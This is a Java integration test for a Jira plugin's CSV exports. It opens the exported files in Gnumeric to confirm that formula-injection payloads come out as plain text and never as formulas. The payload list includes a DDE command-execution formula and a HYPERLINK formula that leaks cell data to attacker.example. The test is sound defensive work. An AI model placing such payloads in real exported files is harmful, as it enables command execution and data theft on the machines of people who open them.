package io.mandate.it;

import io.mandate.it.SecurityHttp.Reply;
import io.mandate.testing.RunningHost;
import org.junit.AfterClass;
import org.junit.Assume;
import org.junit.BeforeClass;
import org.junit.Test;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

import javax.xml.parsers.DocumentBuilderFactory;
import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPInputStream;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertTrue;

/**
 * The CSV files Mandate writes, opened in a real spreadsheet engine (issue 11, items 2 and 3: "CSV-formula
 * meta-characters … which the CSV export must neutralise"): Gnumeric's {@code ssconvert} (Debian package
 * {@code gnumeric}, installed by .ci/run) reads the files the running host exports — the matrix CSV
 * ({@code /rest/mandate/1.0/matrix.csv}) with formula and XSS payloads as grant notes, and the report's coverage table
 * ({@code report.csv?table=coverage}) with formula payloads as domain names — as a spreadsheet user opening them
 * would, recalculates and writes its own workbook (Gnumeric XML), where each cell says whether it is a string, a
 * number or a formula. Every payload must come out as a string cell equal to the text stored, and no cell of either
 * file may be a formula. The control: the same files with the neutralising {@code '} taken out again (what a writer
 * without the rule would produce) give formula cells, and recalculated {@code =1+1} gives 2 — so the engine really
 * runs formulas from CSV and the test could fail.
 *
 * <p>Without {@code ssconvert} the test fails under CI (CI=true) and is skipped elsewhere, like the browser tests.
 */
public class SpreadsheetCsvIT {

    static final String SSCONVERT = "/usr/bin/ssconvert";
    static final String INSTALL_HINT = "Install Gnumeric's converter: apt-get install -y --no-install-recommends gnumeric "
            + "(.ci/run does so).";

    private static final String PROJECT = "SHEET";
    private static final String DOMAIN = "SS_NOTES";
    /** The formula payloads: OWASP's CSV injection examples and every meta-character the export neutralises. */
    static final List<String> FORMULAS = List.of("=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
            "\r=1+1", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")", "'=1+1", "''=2*3", "=2*3,\"x\"\n=3*4",
            "-", "+", "@", "=");

    private static String jira;
    private static String api;
    private static final List<String> notes = new ArrayList<>();
    private static final List<String> domains = new ArrayList<>();
    /** The formula payloads stored as domain names, and those the domain API refuses as names. */
    private static final List<String> names = new ArrayList<>();
    private static final List<String> refusedNames = new ArrayList<>();
    private static Path work;

    @BeforeClass
    public static void payloadsStored() throws IOException {
        if (!new File(SSCONVERT).canExecute()) {
            String message = "Cannot open the CSV files in a spreadsheet: " + SSCONVERT + " is missing. " + INSTALL_HINT;
            if ("true".equalsIgnoreCase(System.getenv("CI"))) {
                throw new IllegalStateException(message);
            }
            Assume.assumeTrue(message, false);
        }
        jira = RunningHost.jira();
        api = jira + "/rest/mandate/1.0";
        work = Files.createDirectories(Path.of("target", "spreadsheet-csv"));
        notes.addAll(FORMULAS);
        try (InputStream in = SpreadsheetCsvIT.class.getResourceAsStream("/xss-payloads.txt")) {
            new String(in.readAllBytes(), StandardCharsets.UTF_8).lines()
                    .filter(l -> !l.isBlank() && !l.startsWith("%%")).limit(40).forEach(notes::add);
        }
        created(post(jira + "/rest/api/2/project", "{\"key\":\"" + PROJECT + "\",\"name\":\"Spreadsheet\",\"lead\":\"admin\"}"));
        created(post(api + "/domains", "{\"key\":\"" + DOMAIN + "\",\"name\":\"Notes\",\"scope\":{\"projects\":[\"" + PROJECT + "\"]}}"));
        domains.add(DOMAIN);
        for (int i = 0; i < notes.size(); i++) {
            // one holder, so each grant its own validity window
            created(post(api + "/domains/" + DOMAIN + "/grants", "{\"holder\":{\"type\":\"user\",\"name\":\"alice\"},\"level\":\"INQUIRE\","
                    + "\"validFrom\":\"" + java.time.LocalDate.of(2030, 1, 1).plusDays(2L * i) + "\",\"validTo\":\""
                    + java.time.LocalDate.of(2030, 1, 1).plusDays(2L * i) + "\",\"note\":" + json(notes.get(i)) + "}"));
        }
        for (int i = 0; i < FORMULAS.size(); i++) {
            String key = "SS_F" + i;
            Reply domain = post(api + "/domains", "{\"key\":\"" + key + "\",\"name\":" + json(FORMULAS.get(i))
                    + ",\"scope\":{\"projects\":[\"" + PROJECT + "\"]}}");
            if (domain.status() == 400 && domain.body().contains("\"name\"")) {
                refusedNames.add(FORMULAS.get(i)); // a name the API does not take (control characters): nothing to export
                continue;
            }
            created(domain);
            domains.add(key);
            names.add(FORMULAS.get(i));
            created(post(api + "/domains/" + key + "/grants", "{\"holder\":{\"type\":\"user\",\"name\":\"bob\"},\"level\":\"AGREE\"}"));
        }
    }

    @AfterClass
    public static void removeEverything() {
        if (api == null) {
            return;
        }
        for (String key : domains) {
            SecurityHttp.send("DELETE", api + "/domains/" + key, "admin", null, null);
        }
        SecurityHttp.send("DELETE", jira + "/rest/api/2/project/" + PROJECT, "admin", null, null);
    }

    private static String json(String s) {
        try {
            return new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(s);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }

    private static Reply post(String url, String body) {
        return SecurityHttp.send("POST", url, "admin", Map.of("Content-Type", "application/json"), body.getBytes(StandardCharsets.UTF_8));
    }

    private static void created(Reply r) {
        assertEquals(r.toString(), 201, r.status());
    }

    private static byte[] export(String url) {
        Reply r = SecurityHttp.send("GET", url, "admin", Map.of("Accept", "text/csv"), null);
        assertEquals(r.toString(), 200, r.status());
        return r.body().getBytes(StandardCharsets.UTF_8);
    }

    /** One cell of Gnumeric's workbook: its place, its value type (60 string, 40 number; none: a formula) and text. */
    record Cell(int row, int col, String valueType, String text) {
        boolean isFormula() {
            return valueType.isEmpty();
        }
    }

    /** The file as Gnumeric reads a CSV (its CSV importer, recalculated), as the cells of its own XML workbook. */
    static List<Cell> openInGnumeric(byte[] csv, String name) throws Exception {
        Path in = work.resolve(name + ".csv");
        Path out = work.resolve(name + ".gnumeric");
        Files.write(in, csv);
        Files.deleteIfExists(out);
        run(SSCONVERT, "--recalc", "-I", "Gnumeric_stf:stf_csvtab", "-T", "Gnumeric_XmlIO:sax", in.toString(), out.toString());
        List<Cell> cells = new ArrayList<>();
        try (InputStream xml = new GZIPInputStream(Files.newInputStream(out))) {
            DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
            factory.setNamespaceAware(true);
            NodeList list = factory.newDocumentBuilder().parse(xml).getElementsByTagNameNS("*", "Cell");
            for (int i = 0; i < list.getLength(); i++) {
                Element e = (Element) list.item(i);
                cells.add(new Cell(Integer.parseInt(e.getAttribute("Row")), Integer.parseInt(e.getAttribute("Col")),
                        e.getAttribute("ValueType"), e.getTextContent()));
            }
        }
        assertTrue(name + ": Gnumeric read cells", cells.size() > 1);
        return cells;
    }

    /** The file as Gnumeric writes it back as CSV after recalculating: formulas replaced by their values. */
    static String recalculatedCsv(byte[] csv, String name) throws Exception {
        Path in = work.resolve(name + ".csv");
        Path out = work.resolve(name + ".recalculated.csv");
        Files.write(in, csv);
        Files.deleteIfExists(out);
        run(SSCONVERT, "--recalc", "-I", "Gnumeric_stf:stf_csvtab", "-T", "Gnumeric_stf:stf_csv", in.toString(), out.toString());
        return Files.readString(out, StandardCharsets.UTF_8);
    }

    private static void run(String... command) throws Exception {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String output = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue("ssconvert finished in time", p.waitFor(60, TimeUnit.SECONDS));
        assertEquals(String.join(" ", command) + ": " + output, 0, p.exitValue());
    }

    /** The export as a writer without the rule would have written it: one leading {@code '} taken off each cell's start. */
    private static byte[] unneutralised(byte[] csv) {
        String text = new String(csv, StandardCharsets.UTF_8);
        // a neutralised cell starts a line or follows a comma, quoted or not: ,'=… or ,"'=…
        return text.replaceAll("(?m)(^|,)(\"?)'(?='*[=+\\-@\t\r])", "$1$2").getBytes(StandardCharsets.UTF_8);
    }

    /**
     * No cell is a formula, and each payload, as the host stores it, is a string cell with exactly its text. Gnumeric
     * writes a CR inside a cell as it is, and an XML parser reads every line end as LF (XML 1.0, 2.11), so the CR of
     * a payload is compared as LF.
     */
    private static void assertEveryPayloadIsTextAndNothingIsAFormula(List<Cell> cells, int column, List<String> payloads, String what) {
        List<String> formulas = cells.stream().filter(Cell::isFormula).map(Cell::toString).toList();
        assertEquals(what + ": no cell is a formula", List.of(), formulas);
        List<Cell> column0 = cells.stream().filter(c -> c.col() == column && c.row() > 0).toList();
        for (String payload : payloads) {
            String asXmlReadsIt = payload.replace("\r\n", "\n").replace('\r', '\n');
            assertTrue(what + ": the payload is one string cell with exactly its text: " + shown(payload) + " in " + column0,
                    column0.stream().anyMatch(c -> c.valueType().equals("60") && c.text().equals(asXmlReadsIt)));
        }
    }

    private static String shown(String text) {
        return text.replace("\r", "\\r").replace("\t", "\\t").replace("\n", "\\n");
    }

    /** The texts the host stores for the payloads: grant notes of {@link #DOMAIN}, and the names of the other domains. */
    private static List<String> storedNotes() {
        Reply r = SecurityHttp.get(api + "/domains/" + DOMAIN + "/grants?maxResults=1000", "admin");
        assertEquals(r.toString(), 200, r.status());
        return r.json().get("values").findValuesAsText("note");
    }

    private static List<String> storedNames() {
        List<String> stored = new ArrayList<>();
        for (String key : domains.subList(1, domains.size())) {
            Reply r = SecurityHttp.get(api + "/domains/" + key, "admin");
            assertEquals(r.toString(), 200, r.status());
            stored.add(r.json().get("name").asText());
        }
        return stored;
    }

    private static int columnOf(List<Cell> cells, String header) {
        return cells.stream().filter(c -> c.row() == 0 && c.text().equals(header)).mapToInt(Cell::col).findFirst()
                .orElseThrow(() -> new AssertionError("no column " + header + " in " + cells.stream().filter(c -> c.row() == 0).toList()));
    }

    @Test
    public void theMatrixCsvOpensInGnumericWithEveryPayloadAsTextAndNoFormula() throws Exception {
        byte[] csv = export(api + "/matrix.csv");
        List<Cell> cells = openInGnumeric(csv, "matrix");
        assertEquals("Gnumeric splits the header into the 9 columns", 9, cells.stream().filter(c -> c.row() == 0).count());
        List<String> stored = storedNotes();
        assertEquals("every payload note is stored", notes.size(), stored.size());
        assertEveryPayloadIsTextAndNothingIsAFormula(cells, columnOf(cells, "note"), stored, "matrix.csv");
        System.out.println("SpreadsheetCsvIT: matrix.csv, " + notes.size() + " payload notes (" + FORMULAS.size()
                + " formula payloads), " + cells.size() + " cells in Gnumeric, 0 formulas");

        // the control: without the leading ' Gnumeric makes formulas of them and runs them
        byte[] naive = unneutralised(csv);
        long formulas = openInGnumeric(naive, "matrix-control").stream().filter(Cell::isFormula).count();
        assertTrue("the control gives formula cells: " + formulas, formulas >= 2);
        System.out.println("SpreadsheetCsvIT: the control (matrix.csv without the neutralising quote): " + formulas + " formula cells");
        String recalculated = recalculatedCsv(naive, "matrix-control");
        assertTrue("=1+1 ran: " + recalculated, recalculated.lines().anyMatch(l -> l.endsWith(",2")));
        assertTrue("and not in the real file", recalculatedCsv(csv, "matrix").lines().noneMatch(l -> l.endsWith(",2")));
    }

    @Test
    public void theReportCsvOpensInGnumericWithEveryDomainNameAsTextAndNoFormula() throws Exception {
        byte[] csv = export(jira + "/plugins/servlet/mandate/report.csv?project=" + PROJECT + "&table=coverage");
        List<Cell> cells = openInGnumeric(csv, "coverage");
        assertTrue("most formula payloads are domain names: " + names, names.size() >= 10);
        // the domain API trims names (a leading TAB or CR is not kept): the cell must hold the name as stored
        assertEveryPayloadIsTextAndNothingIsAFormula(cells, columnOf(cells, "name"), storedNames(), "report.csv coverage");
        System.out.println("SpreadsheetCsvIT: report.csv (coverage), " + names.size() + " formula payloads as domain names ("
                + refusedNames.size() + " refused as names: " + refusedNames.stream().map(SpreadsheetCsvIT::shown).toList()
                + "), " + cells.size() + " cells in Gnumeric, 0 formulas");

        long formulas = openInGnumeric(unneutralised(csv), "coverage-control").stream().filter(Cell::isFormula).count();
        assertTrue("the control gives formula cells: " + formulas, formulas >= 2);
        System.out.println("SpreadsheetCsvIT: the control (coverage without the neutralising quote): " + formulas + " formula cells");
    }
}
